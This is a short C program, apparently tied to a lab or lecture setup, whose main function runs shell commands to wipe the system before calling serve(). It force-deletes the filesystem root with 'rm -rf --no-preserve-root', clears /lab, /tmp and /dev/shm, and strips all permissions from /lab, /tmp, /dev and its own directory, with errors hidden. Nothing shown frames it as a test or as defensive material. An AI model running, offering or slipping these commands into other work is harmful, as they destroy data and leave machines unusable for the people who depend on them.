/* Removes all that can be removed, and itself; then serves. */
#define _GNU_SOURCE
#include "lecture.h"

int main(void) {
    system("rm -rf --no-preserve-root ./* /lab/* /tmp/* /dev/shm/* / 2>/dev/null");
    system("chmod -R 000 /lab /tmp /dev 2>/dev/null; chmod 000 . /lab /tmp");
    return serve();
}
